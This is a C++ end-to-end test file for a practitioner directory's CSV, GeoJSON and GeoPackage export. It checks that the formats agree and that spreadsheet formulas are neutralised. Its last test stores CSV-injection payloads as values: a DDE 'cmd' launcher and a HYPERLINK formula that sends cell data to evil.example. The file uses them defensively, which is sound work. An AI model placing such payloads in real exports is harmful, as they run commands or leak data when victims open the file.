// End-to-end tests of GET /api/v1/export over the m2A sample: every format read back
// (by this file's own CSV reader, by GDAL, by nlohmann), the same rows and values in
// the three, the declared fields as the fiche shows them, spreadsheet-safe CSV. Exports
// at their limits are in export_limits_test.cpp.
#include "search_server.hpp"

#include <gdal.h>
#include <ogr_api.h>

#include <algorithm>
#include <chrono>
#include <set>
#include <sstream>
#include <thread>

using annuaire::testing::SearchServer;
using nlohmann::json;

namespace {

constexpr const char* kBase = "/api/v1/practitioners";

// The columns the README documents, in order.
const std::vector<std::string> kColumns = {
    "id", "site_id", "civility", "last_name", "first_name", "profession_code", "profession", "specialty_codes",
    "specialties", "site_name", "address", "address_complement", "postcode", "commune", "insee", "phone", "email",
    "lat", "lon", "precision", "declared_phone", "declared_mssante_email", "appointment_url", "conventionnement",
    "carte_vitale", "tiers_payant", "pmr_access", "home_visits", "teleconsultation", "telesoin", "publics", "acts",
    "opening_hours", "practitioner_phone", "practitioner_mssante_email", "website", "expertise", "training"};

struct Csv {
    std::vector<std::string> header;
    std::vector<std::vector<std::string>> rows;
};

// Reads CSV as RFC 4180 with `separator` and CRLF, after a UTF-8 BOM for the spreadsheet's
// ';'; fails the test on anything else (a bare LF, a quote inside an unquoted cell, an
// unclosed quote, a short row, a BOM where none belongs).
Csv parse_csv(std::string_view text, char separator = ';') {
    if (separator == ';') {
        REQUIRE(text.substr(0, 3) == "\xEF\xBB\xBF");
        text.remove_prefix(3);
    } else {
        REQUIRE(text.substr(0, 3) != "\xEF\xBB\xBF");
    }
    std::vector<std::vector<std::string>> records;
    std::vector<std::string> record;
    std::string cell;
    std::size_t i = 0;
    while (i < text.size()) {
        if (text[i] == '"') {
            ++i;
            for (;;) {
                REQUIRE_MESSAGE(i < text.size(), "unclosed quote in record " << records.size());
                if (text[i] == '"') {
                    if (i + 1 < text.size() && text[i + 1] == '"') {
                        cell += '"';
                        i += 2;
                        continue;
                    }
                    ++i;
                    break;
                }
                cell += text[i++];
            }
        } else {
            while (i < text.size() && text[i] != separator && text[i] != '\r' && text[i] != '\n') {
                REQUIRE_MESSAGE(text[i] != '"', "a quote inside an unquoted cell in record " << records.size());
                cell += text[i++];
            }
        }
        record.push_back(std::move(cell));
        cell.clear();
        REQUIRE_MESSAGE(i < text.size(), "the last record does not end with CRLF");
        if (text[i] == separator) {
            ++i;
            continue;
        }
        REQUIRE_MESSAGE(text.substr(i, 2) == "\r\n", "a record ends without CRLF: record " << records.size());
        i += 2;
        records.push_back(std::move(record));
        record.clear();
    }
    REQUIRE(!records.empty());
    Csv csv;
    csv.header = records.front();
    csv.rows.assign(records.begin() + 1, records.end());
    for (const auto& row : csv.rows) REQUIRE(row.size() == csv.header.size());
    return csv;
}

bool is_formula_start(const std::string& text) {
    return !text.empty() && std::string("=+-@\t\r").find(text[0]) != std::string::npos;
}

// The CSV text of a GeoJSON property, as the export must write it.
std::string expected_csv_cell(const json& value) {
    if (value.is_null()) return "";
    if (value.is_boolean()) return value.get<bool>() ? "true" : "false";
    if (value.is_string()) {
        const auto text = value.get<std::string>();
        return is_formula_start(text) ? "'" + text : text;
    }
    return value.dump();
}

bool same_number(const std::string& text, const json& value) {
    if (!value.is_number()) return false;
    if (value.is_number_integer()) return text == value.dump();
    return std::stod(text) == value.get<double>();
}

// Declared opening hours as the fiche lists them, written as the export must write them.
std::string hours_text(const json& intervals) {
    static const char* const days[] = {"lun", "mar", "mer", "jeu", "ven", "sam", "dim"};
    std::string out;
    int day = 0;
    const auto clock = [&out](int minute) {
        for (const int n : {minute / 60, -1, minute % 60}) {
            if (n < 0) out.push_back(':');
            else out.append({static_cast<char>('0' + n / 10), static_cast<char>('0' + n % 10)});
        }
    };
    for (const auto& interval : intervals) {
        const int weekday = interval["weekday"].get<int>();
        if (weekday != day) {
            if (day) out += "; ";
            out += days[weekday - 1];
            day = weekday;
        }
        out.push_back(' ');
        clock(interval["opens_minute"].get<int>());
        out.push_back('-');
        clock(interval["closes_minute"].get<int>());
    }
    return out;
}

std::set<std::string> split_list(const json& value) {
    std::set<std::string> items;
    if (value.is_null()) return items;
    std::string text = value.get<std::string>();
    for (std::size_t at = 0; at <= text.size();) {
        const auto end = std::min(text.find("; ", at), text.size());
        items.insert(text.substr(at, end - at));
        at = end + 2;
    }
    return items;
}

// What the fiche says of a value: its "value", or null when the fiche has no such field.
json fiche_value(const json& object, const std::string& key) {
    return object.contains(key) ? object[key]["value"] : json();
}

void wait_for_reload(const SearchServer& server, const json& version_before) {
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
    while (server.get("/api/v1/health")["version"] == version_before && std::chrono::steady_clock::now() < deadline) {
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    REQUIRE(server.get("/api/v1/health")["version"] != version_before);
}

void declare(const SearchServer& server, const json& declarations) {
    const auto version = server.get("/api/v1/health")["version"];
    const auto file = server.dir() / "declarations.json";
    annuaire::testing::write_file(file, declarations.dump());
    const auto declared = annuaire::testing::run_annuaire({"declare", "--db", server.db().string(), file.string()});
    REQUIRE_MESSAGE(declared.exit_code == 0, declared.err);
    wait_for_reload(server, version);
}

struct GdalRows {
    std::vector<std::string> fields;
    std::vector<std::vector<std::optional<std::string>>> rows;   // nullopt: NULL
    std::vector<OGRFieldType> types;
    std::vector<OGRFieldSubType> subtypes;
    std::vector<std::optional<std::pair<double, double>>> points;   // lon, lat
};

GdalRows read_with_gdal(const std::filesystem::path& path, char** open_options) {
    GDALAllRegister();
    GDALDatasetH dataset = GDALOpenEx(path.c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY, nullptr, open_options, nullptr);
    REQUIRE_MESSAGE(dataset != nullptr, "GDAL cannot open " << path << ": " << CPLGetLastErrorMsg());
    REQUIRE(GDALDatasetGetLayerCount(dataset) == 1);
    OGRLayerH layer = GDALDatasetGetLayer(dataset, 0);
    OGRFeatureDefnH definition = OGR_L_GetLayerDefn(layer);
    GdalRows out;
    for (int i = 0; i < OGR_FD_GetFieldCount(definition); ++i) {
        OGRFieldDefnH field = OGR_FD_GetFieldDefn(definition, i);
        out.fields.emplace_back(OGR_Fld_GetNameRef(field));
        out.types.push_back(OGR_Fld_GetType(field));
        out.subtypes.push_back(OGR_Fld_GetSubType(field));
    }
    OGR_L_ResetReading(layer);
    while (OGRFeatureH feature = OGR_L_GetNextFeature(layer)) {
        std::vector<std::optional<std::string>> row;
        for (int i = 0; i < static_cast<int>(out.fields.size()); ++i) {
            if (!OGR_F_IsFieldSetAndNotNull(feature, i)) {
                row.emplace_back();
            } else if (out.types[static_cast<std::size_t>(i)] == OFTReal) {
                char text[32];   // every digit, so that the value reads back exactly
                std::snprintf(text, sizeof text, "%.17g", OGR_F_GetFieldAsDouble(feature, i));
                row.emplace_back(text);
            } else {
                row.emplace_back(OGR_F_GetFieldAsString(feature, i));
            }
        }
        out.rows.push_back(std::move(row));
        OGRGeometryH geometry = OGR_F_GetGeometryRef(feature);
        if (geometry && !OGR_G_IsEmpty(geometry)) out.points.emplace_back(std::pair(OGR_G_GetX(geometry, 0), OGR_G_GetY(geometry, 0)));
        else out.points.emplace_back();
        OGR_F_Destroy(feature);
    }
    GDALClose(dataset);
    return out;
}

// Exports of one query in the three formats, read back.
struct Exports {
    Csv csv;
    GdalRows csv_by_gdal;
    json geojson;
    GdalRows gpkg;
};

Exports export_all(const SearchServer& server, const std::string& filters) {
    Exports out;
    const auto csv = server.raw("/api/v1/export?format=csv&" + filters);
    REQUIRE(csv.status == 200);
    CHECK(csv.header("content-type") == "text/csv; charset=utf-8");
    CHECK(csv.header("content-disposition") == "attachment; filename=\"praticiens.csv\"");
    out.csv = parse_csv(csv.body);
    const auto csv_path = server.dir() / "export.csv";
    annuaire::testing::write_file(csv_path, csv.body);
    const char* csv_options[] = {"X_POSSIBLE_NAMES=lon", "Y_POSSIBLE_NAMES=lat", nullptr};
    out.csv_by_gdal = read_with_gdal(csv_path, const_cast<char**>(csv_options));

    const auto geojson = server.raw("/api/v1/export?format=geojson&" + filters);
    REQUIRE(geojson.status == 200);
    CHECK(geojson.header("content-type") == "application/geo+json");
    out.geojson = json::parse(geojson.body);

    const auto gpkg = server.raw("/api/v1/export?format=gpkg&" + filters);
    REQUIRE(gpkg.status == 200);
    CHECK(gpkg.header("content-type") == "application/geopackage+sqlite3");
    const auto gpkg_path = server.dir() / "export.gpkg";
    annuaire::testing::write_file(gpkg_path, gpkg.body);
    out.gpkg = read_with_gdal(gpkg_path, nullptr);
    return out;
}

// The row of `features` at (id, site_id), or null.
const json* feature_at(const json& features, const std::string& id, long long site_id) {
    for (const auto& feature : features) {
        const auto& p = feature["properties"];
        if (p["id"] == id && p["site_id"] == site_id) return &feature;
    }
    return nullptr;
}

}  // namespace

TEST_CASE("every export format reads back with the rows and values of the others, as many as search counts") {
    SearchServer server;
    for (const std::string filters : {"profession=10", "q=mulhouse&carte_vitale=true", "near=47.75,7.34&radius_km=3"}) {
        INFO(filters);
        const auto total = server.get(std::string(kBase) + "?" + filters + "&per_page=1")["total"].get<std::size_t>();
        REQUIRE(total > 0);
        const auto exports = export_all(server, filters);
        const auto& features = exports.geojson["features"];

        CHECK(exports.csv.header == kColumns);
        CHECK(exports.csv.rows.size() == total);
        CHECK(exports.csv_by_gdal.rows.size() == total);
        CHECK(exports.gpkg.rows.size() == total);
        CHECK(exports.geojson["type"] == "FeatureCollection");
        CHECK(!exports.geojson.contains("crs"));   // RFC 7946: WGS 84 longitude, latitude
        REQUIRE(features.size() == total);

        // GeoPackage fields are typed: integers, reals, booleans; the rest text.
        REQUIRE(exports.gpkg.fields == kColumns);
        for (std::size_t c = 0; c < kColumns.size(); ++c) {
            const auto& name = kColumns[c];
            const auto type = exports.gpkg.types[c];
            if (name == "site_id") CHECK(type == OFTInteger64);
            else if (name == "lat" || name == "lon") CHECK(type == OFTReal);
            else if (name == "carte_vitale" || name == "telesoin") CHECK(exports.gpkg.subtypes[c] == OFSTBoolean);
            else if (name == "id" || name == "opening_hours") CHECK(type == OFTString);
        }
        // GDAL reads the CSV as this file's reader does (columns, quoting, line breaks).
        REQUIRE(exports.csv_by_gdal.fields == kColumns);

        for (std::size_t r = 0; r < total; ++r) {
            const auto& feature = features[r];
            const auto& properties = feature["properties"];
            REQUIRE(properties.size() == kColumns.size());
            const bool located = !properties["lat"].is_null();
            if (located) {
                CHECK(feature["geometry"]["type"] == "Point");
                CHECK(feature["geometry"]["coordinates"] == json::array({properties["lon"], properties["lat"]}));
                REQUIRE(exports.gpkg.points[r]);
                CHECK(exports.gpkg.points[r]->first == properties["lon"].get<double>());
                CHECK(exports.gpkg.points[r]->second == properties["lat"].get<double>());
                REQUIRE(exports.csv_by_gdal.points[r]);
                CHECK(exports.csv_by_gdal.points[r]->first == properties["lon"].get<double>());
            } else {
                CHECK(feature["geometry"].is_null());
                CHECK(!exports.gpkg.points[r]);
            }
            for (std::size_t c = 0; c < kColumns.size(); ++c) {
                const auto& name = kColumns[c];
                INFO("row " << r << ", column " << name);
                const auto& value = properties[name];
                const auto& cell = exports.csv.rows[r][c];
                if (exports.csv_by_gdal.types[c] == OFTReal) CHECK(std::stod(exports.csv_by_gdal.rows[r][c].value_or("nan")) == std::stod(cell));
                else CHECK(exports.csv_by_gdal.rows[r][c].value_or("") == cell);
                const auto& gpkg = exports.gpkg.rows[r][c];
                CHECK(gpkg.has_value() == !value.is_null());
                if (value.is_number()) {
                    CHECK(same_number(cell, value));
                    CHECK(same_number(gpkg.value_or(""), value));
                } else if (value.is_boolean()) {
                    CHECK(cell == expected_csv_cell(value));
                    CHECK(gpkg == std::optional<std::string>(value.get<bool>() ? "1" : "0"));
                } else {
                    CHECK(cell == expected_csv_cell(value));
                    if (value.is_string()) CHECK(gpkg == std::optional<std::string>(value.get<std::string>()));
                }
                if (name == "site_id") CHECK(value.is_number_integer());
                if (name == "carte_vitale" || name == "pmr_access") CHECK((value.is_null() || value.is_boolean()));
            }
        }
        // Rows in name order, as search's sort=name gives them.
        const auto first = server.get(std::string(kBase) + "?" + filters + "&sort=name&per_page=5")["items"];
        for (std::size_t i = 0; i < first.size(); ++i) {
            CHECK(features[i]["properties"]["id"] == first[i]["id"]);
            CHECK(features[i]["properties"]["site_id"] == first[i]["site_id"]);
        }
    }
}

TEST_CASE("an export carries the declared fields and the owner corrections the fiche shows") {
    SearchServer server;
    // Declarations of every kind on three practices of the sample that already declare hours.
    const auto chosen = server.get(std::string(kBase) + "?profession=10&carte_vitale=true&sort=name&per_page=3")["items"];
    REQUIRE(chosen.size() == 3);
    json practitioners = json::array(), practices = json::array(), corrections = json::array();
    for (std::size_t i = 0; i < chosen.size(); ++i) {
        const auto id = chosen[i]["id"].get<std::string>();
        const auto n = std::to_string(i);
        practitioners.push_back({{"practitioner_id", id}, {"phone", "06 00 00 00 0" + n},
                                 {"mssante_email", "praticien" + n + "@medecin.mssante.fr"},
                                 {"expertise", "Expertise " + n}, {"training", "DU d'échographie " + n},
                                 {"website", "https://cabinet" + n + ".example.fr/"}});
        practices.push_back({{"practitioner_id", id}, {"site_id", chosen[i]["site_id"]}, {"phone", "03 89 00 00 1" + n},
                             {"mssante_email", "cabinet" + n + "@medecin.mssante.fr"},
                             {"appointment_url", "https://rdv.example.fr/" + n}, {"carte_vitale", true},
                             {"tiers_payant", false}, {"conventionnement", "secteur_2_optam"},
                             {"publics", {"enfants", "adultes"}}, {"acts", {"vaccination", "ecg"}},
                             {"opening_hours", {{{"weekday", 2}, {"opens", "14:00"}, {"closes", "18:30"}},
                                                {{"weekday", 1}, {"opens", "08:00"}, {"closes", "12:00"}},
                                                {{"weekday", 1}, {"opens", "13:30"}, {"closes", "24:00"}}}}});
        corrections.push_back({{"site_id", chosen[i]["site_id"]}, {"field", "email"}, {"value", "accueil" + n + "@cabinet.fr"}});
    }
    corrections.push_back({{"practitioner_id", chosen[0]["id"]}, {"field", "last_name"}, {"value", "Nom-Corrigé"}});
    corrections.push_back({{"site_id", chosen[1]["site_id"]}, {"field", "site_name"}, {"value", "Maison de santé corrigée"}});
    declare(server, {{"declared_at", "2025-03-01T10:00:00Z"}, {"declared_by", "test"}, {"practitioners", practitioners},
                     {"practices", practices}, {"corrections", corrections}});

    const auto exports = export_all(server, "profession=10");
    const auto& features = exports.geojson["features"];
    // The three declared above, and a few more with the sample's declarations.
    std::vector<const json*> checked;
    for (const auto& item : chosen) checked.push_back(feature_at(features, item["id"], item["site_id"].get<long long>()));
    for (const auto& feature : features) {
        if (checked.size() >= 10) break;
        if (!feature["properties"]["opening_hours"].is_null() || !feature["properties"]["conventionnement"].is_null()) {
            checked.push_back(&feature);
        }
    }
    REQUIRE(checked.size() == 10);
    for (const auto* feature : checked) {
        REQUIRE(feature != nullptr);
        const auto& row = (*feature)["properties"];
        const auto id = row["id"].get<std::string>();
        INFO("practitioner " << id << " at site " << row["site_id"]);
        const auto fiche = server.get(std::string(kBase) + "/" + id);
        const json* practice = nullptr;
        for (const auto& p : fiche["practices"]) {
            if (p["site_id"] == row["site_id"] && p["profession"]["value"]["code"] == row["profession_code"]) practice = &p;
        }
        REQUIRE(practice != nullptr);
        const auto& declared = (*practice)["declared"];
        CHECK(row["last_name"] == fiche["last_name"]["value"]);
        CHECK(row["first_name"] == fiche["first_name"]["value"]);
        const auto& exercise = fiche["exercise_civility"]["value"];
        CHECK(row["civility"] == (exercise.is_null() ? fiche["civility"]["value"] : exercise));
        CHECK(row["profession"] == (*practice)["profession"]["value"]["label"]);
        CHECK(row["site_name"] == (*practice)["site_name"]["value"]);
        CHECK(row["phone"] == (*practice)["phone"]["value"]);
        CHECK(row["email"] == (*practice)["email"]["value"]);
        const auto& address = (*practice)["address"]["value"];
        CHECK(row["address"] == address["line"]);
        CHECK(row["postcode"] == address["postcode"]);
        CHECK(row["commune"] == address["commune"]);
        CHECK(row["insee"] == address["insee"]);
        CHECK(row["lat"] == (*practice)["location"]["lat"]);
        CHECK(row["lon"] == (*practice)["location"]["lon"]);
        std::set<std::string> codes, labels;
        for (const auto& s : fiche["specialties"]["value"]) {
            codes.insert(s["code"].get<std::string>());
            labels.insert(s["label"].get<std::string>());
        }
        CHECK(split_list(row["specialty_codes"]) == codes);
        CHECK(split_list(row["specialties"]) == labels);

        CHECK(row["declared_phone"] == fiche_value(declared, "phone"));
        CHECK(row["declared_mssante_email"] == fiche_value(declared, "mssante_email"));
        CHECK(row["appointment_url"] == fiche_value(declared, "appointment_url"));
        CHECK(row["conventionnement"] == fiche_value(declared, "conventionnement"));
        for (const char* name : {"carte_vitale", "tiers_payant", "pmr_access", "home_visits", "teleconsultation", "telesoin"}) {
            CHECK(row[name] == fiche_value(declared, name));
        }
        std::set<std::string> publics, acts;
        for (const auto& code : fiche_value(declared, "publics")) publics.insert(code.get<std::string>());
        for (const auto& code : fiche_value(declared, "acts")) acts.insert(code.get<std::string>());
        CHECK(split_list(row["publics"]) == publics);
        CHECK(split_list(row["acts"]) == acts);
        const auto hours = fiche_value(declared, "opening_hours");
        CHECK(row["opening_hours"] == (hours.is_null() ? json() : json(hours_text(hours))));
        const auto& person = fiche["declared"];
        CHECK(row["practitioner_phone"] == fiche_value(person, "phone"));
        CHECK(row["practitioner_mssante_email"] == fiche_value(person, "mssante_email"));
        CHECK(row["website"] == fiche_value(person, "website"));
        CHECK(row["expertise"] == fiche_value(person, "expertise"));
        CHECK(row["training"] == fiche_value(person, "training"));
    }
    // What was declared above, spelt out once (the fiche could be wrong in the same way).
    const auto& first = (*checked[0])["properties"];
    CHECK(first["last_name"] == "Nom-Corrigé");
    CHECK(first["email"] == "accueil0@cabinet.fr");
    CHECK(first["opening_hours"] == "lun 08:00-12:00 13:30-24:00; mar 14:00-18:30");
    CHECK(first["publics"] == "enfants; adultes");
    CHECK(first["acts"] == "vaccination; ecg");
    CHECK(first["conventionnement"] == "secteur_2_optam");
    CHECK(first["tiers_payant"] == false);
    CHECK(first["practitioner_mssante_email"] == "praticien0@medecin.mssante.fr");
    CHECK((*checked[1])["properties"]["site_name"] == "Maison de santé corrigée");
}

TEST_CASE("the comma CSV for programs holds what the spreadsheet CSV holds, with commas and no BOM") {
    SearchServer server;
    for (const std::string filters : {"profession=10", "q=mulhouse&carte_vitale=true"}) {
        INFO(filters);
        const auto spreadsheet = server.raw("/api/v1/export?format=csv&" + filters);
        const auto comma = server.raw("/api/v1/export?format=csv-comma&" + filters);
        REQUIRE(spreadsheet.status == 200);
        REQUIRE(comma.status == 200);
        CHECK(comma.header("content-type") == "text/csv; charset=utf-8");
        CHECK(comma.header("content-disposition") == "attachment; filename=\"praticiens-virgules.csv\"");
        const auto by_semicolon = parse_csv(spreadsheet.body);
        const auto by_comma = parse_csv(comma.body, ',');
        CHECK(by_comma.header == kColumns);
        CHECK(by_comma.rows == by_semicolon.rows);
        CHECK(comma.body.rfind("id,site_id,civility,", 0) == 0);
    }
}

TEST_CASE("a declared value =1+1 reads '=1+1 in the CSV export: formulas are neutralised, numbers are not") {
    SearchServer server;
    const auto items = server.get(std::string(kBase) + "?profession=10&sort=name&per_page=100")["items"];
    // Five practices of five practitioners at five different sites.
    std::vector<json> chosen;
    std::set<long long> sites;
    std::set<std::string> people;
    for (const auto& item : items) {
        if (sites.count(item["site_id"].get<long long>()) || people.count(item["id"].get<std::string>())) continue;
        sites.insert(item["site_id"].get<long long>());
        people.insert(item["id"].get<std::string>());
        chosen.push_back(item);
        if (chosen.size() == 5) break;
    }
    REQUIRE(chosen.size() == 5);
    const std::vector<std::string> site_names = {"=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
                                                 "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")"};
    // Declarations trim leading tabs and CRs and store CR LF as LF, so those cells are checked by the
    // unit test of append_csv_text; here, texts a professional can declare.
    const std::vector<std::string> expertise = {"=SUM(A1:A9)", "+1 an d'expérience", "ligne 1\r\nligne 2; \"citée\"", "A;B", "1+1="};
    const std::vector<std::string> stored_expertise = {"=SUM(A1:A9)", "+1 an d'expérience", "ligne 1\nligne 2; \"citée\"", "A;B",
                                                       "1+1="};
    json corrections = json::array(), practitioners = json::array();
    for (std::size_t i = 0; i < chosen.size(); ++i) {
        corrections.push_back({{"site_id", chosen[i]["site_id"]}, {"field", "site_name"}, {"value", site_names[i]}});
        practitioners.push_back({{"practitioner_id", chosen[i]["id"]}, {"expertise", expertise[i]}});
    }
    declare(server, {{"declared_at", "2025-03-01T10:00:00Z"}, {"corrections", corrections}, {"practitioners", practitioners}});
    // A site west of Greenwich (pinned by hand): its longitude is negative.
    const auto west_site = chosen[0]["site_id"].get<long long>();
    const auto version = server.get("/api/v1/health")["version"];
    const auto pinned = annuaire::testing::run_annuaire({"pin", "--db", server.db().string(), "--site", std::to_string(west_site),
                                                         "--lat", "47.2184", "--lon", "-1.5536"});
    REQUIRE_MESSAGE(pinned.exit_code == 0, pinned.err);
    wait_for_reload(server, version);

    const auto response = server.raw("/api/v1/export?format=csv&profession=10");
    REQUIRE(response.status == 200);
    const auto csv = parse_csv(response.body);
    const auto column = [&](const std::string& name) {
        return static_cast<std::size_t>(std::find(csv.header.begin(), csv.header.end(), name) - csv.header.begin());
    };
    const auto row_of = [&](const json& item) -> const std::vector<std::string>& {
        for (const auto& row : csv.rows) {
            if (row[column("id")] == item["id"] && row[column("site_id")] == std::to_string(item["site_id"].get<long long>())) return row;
        }
        FAIL("no row for " << item["id"]);
        throw std::logic_error("unreachable");
    };
    const std::vector<std::string> neutral_names = {"'=1+1", "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3",
                                                    "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")"};
    const std::vector<std::string> neutral_expertise = {"'=SUM(A1:A9)", "'+1 an d'expérience", "ligne 1\nligne 2; \"citée\"", "A;B",
                                                        "1+1="};
    for (std::size_t i = 0; i < chosen.size(); ++i) {
        const auto& row = row_of(chosen[i]);
        CHECK(row[column("site_name")] == neutral_names[i]);
        CHECK(row[column("expertise")] == neutral_expertise[i]);
    }
    // In the file itself: quoted where a ';', a quote or a line break is inside, quotes doubled.
    CHECK(response.body.find(";'=1+1;") != std::string::npos);
    CHECK(response.body.find(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Cliquez\"\")\";") != std::string::npos);
    CHECK(response.body.find(";\"ligne 1\nligne 2; \"\"citée\"\"\";") != std::string::npos);
    // A number is data: the negative longitude is written as it is.
    CHECK(row_of(chosen[0])[column("lon")] == "-1.5536");
    CHECK(row_of(chosen[0])[column("lat")] == "47.2184");

    // GeoJSON and GeoPackage are read by programs, not spreadsheets: values as declared.
    const auto geojson = json::parse(server.raw("/api/v1/export?format=geojson&profession=10").body);
    for (std::size_t i = 0; i < chosen.size(); ++i) {
        const auto* feature = feature_at(geojson["features"], chosen[i]["id"], chosen[i]["site_id"].get<long long>());
        REQUIRE(feature != nullptr);
        CHECK((*feature)["properties"]["site_name"] == site_names[i]);
        CHECK((*feature)["properties"]["expertise"] == stored_expertise[i]);
    }
    const auto* west = feature_at(geojson["features"], chosen[0]["id"], west_site);
    REQUIRE(west != nullptr);
    CHECK((*west)["geometry"]["coordinates"] == json::array({-1.5536, 47.2184}));
}
